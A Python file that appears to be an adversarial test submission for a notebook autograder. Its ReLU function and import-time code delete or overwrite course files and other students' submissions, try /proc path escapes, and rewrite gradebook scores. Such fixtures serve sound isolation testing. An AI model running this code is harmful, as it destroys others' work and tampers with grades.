# base: reference
# attacks: ReLU
# class: writing or deleting course files and other students' work, by every path it can
#   think of; and a SQLite URI that gives itself the points in the gradebook
# %% ReLU
import glob
import os
import shutil
import sqlite3

COURSE, REPO = "@COURSE@", "@REPO@"


def _vandalise():
    victims = [f"{COURSE}/source/lab21/lab21.ipynb", f"{COURSE}/nbgrader_config.py",
               f"{REPO}/solutions/lab21_reference.py", f"{COURSE}/gradebook.db"]
    prefixes = ["", "/proc/self/cwd/" + "../" * 12] + [r + "/" for r in glob.glob("/proc/*/root")]
    for prefix in prefixes:
        for victim in victims:
            path = prefix + victim.lstrip("/") if prefix else victim
            for damage in (lambda p: open(p, "w").write("vandalised"), os.remove,
                           lambda p: os.rename(p, p + ".gone")):
                try:
                    damage(path)
                except Exception:
                    pass
        for folder in glob.glob(prefix + COURSE.lstrip("/") + "/submitted/*") if prefix else glob.glob(COURSE + "/submitted/*"):
            shutil.rmtree(folder, ignore_errors=True)
        try:
            database = sqlite3.connect(f"file:{prefix}{COURSE.lstrip('/')}/gradebook.db", uri=True)
            database.execute("update grade set manual_score = 0")
            database.execute("update grade set manual_score = 99 where id in (select id from grade)")
            database.commit()
        except Exception:
            pass


_vandalise()


def ReLU(x):
    _vandalise()
    return None  # wrong: only the vandalism could earn anything
